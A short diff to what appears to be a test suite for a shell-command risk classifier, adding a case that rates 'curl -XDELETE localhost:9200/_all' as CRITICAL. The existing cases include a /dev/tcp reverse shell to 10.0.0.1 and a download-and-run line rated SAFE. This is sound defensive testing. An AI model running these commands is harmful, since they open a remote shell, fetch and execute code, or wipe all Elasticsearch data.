@@ -94,6 +94,7 @@ SAFE, CAUTION, DANGEROUS, CRITICAL = Risk
         ("wget https://x.example/python && python x.py", SAFE),
         ("exec 5<>/dev/tcp/10.0.0.1/1; sh <&5 >&5", CRITICAL),
         ("exec 5<>/dev/tcp/example.com/80; echo x >&5; cat <&5", DANGEROUS),
+        ("curl -XDELETE localhost:9200/_all", CRITICAL),
     ],
 )
 def test_network(command: str, risk: Risk) -> None:
